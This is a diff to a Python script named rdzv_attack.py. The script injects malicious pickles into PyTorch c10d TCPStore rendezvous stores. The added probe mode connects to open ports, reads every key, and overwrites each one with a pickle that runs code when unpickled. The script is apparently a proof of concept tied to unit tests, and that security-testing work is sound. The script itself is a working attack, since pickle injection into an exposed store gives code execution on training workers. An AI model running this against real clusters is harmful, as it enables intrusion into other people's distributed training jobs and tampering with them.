@@ -4,12 +4,17 @@ Run as ``python rdzv_attack.py HOST PORT RUN_ID MARKER``: connects to the store
 (``RUN_ID`` "agreed": reads the job's id there) and writes, under every key a
 c10d rendezvous state could live at (torch's and ours), a pickle that creates
 ``MARKER`` when unpickled, plain and base64'd.
+``python rdzv_attack.py --probe HOST PORT[,PORT...] MARKER``: what a stranger
+who found those ports does: connect as a TCPStore client, list and read every
+key, and overwrite each with the pickle (plus the keys a job would use);
+prints one JSON object per port (connected or not, the error, keys seen).
 Importable too: :func:`payload` is the pickle the unit tests use.
 """
 
 from __future__ import annotations
 
 import base64
+import json
 import pickle
 import sys
 from datetime import timedelta
@@ -47,5 +52,30 @@ def attack(host: str, port: int, run_id: str, marker: str) -> None:
     store.set(keys(run_id)[1], bits)  # and raw, for a backend that skips base64
 
 
+PLAUSIBLE = ("manygpu.run_id", "/worker/attempt_0/default_pg/0//cpu//0", "MASTER_ADDR")
+"""Keys a job's stores hold or held, written even when listing keys fails."""
+
+
+def probe(host: str, port: int, marker: str) -> dict[str, object]:
+    """Everything a TCPStore client can do to ``host:port``, and how far it got."""
+    from torch.distributed import TCPStore
+
+    result: dict[str, object] = {"port": port, "connected": False, "keys": [], "error": ""}
+    try:
+        store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=10))
+        result["connected"] = True
+        keys = list(store.list_keys())
+        result["keys"] = keys
+        for key in [*keys, *PLAUSIBLE]:
+            store.set(key, payload(marker))
+    except Exception as exc:  # the outcome is the data
+        result["error"] = f"{type(exc).__name__}: {str(exc).splitlines()[0][:200]}"
+    return result
+
+
 if __name__ == "__main__":
-    attack(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4])
+    if sys.argv[1] == "--probe":
+        for port in sys.argv[3].split(","):
+            print(json.dumps(probe(sys.argv[2], int(port), sys.argv[4])), flush=True)
+    else:
+        attack(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4])
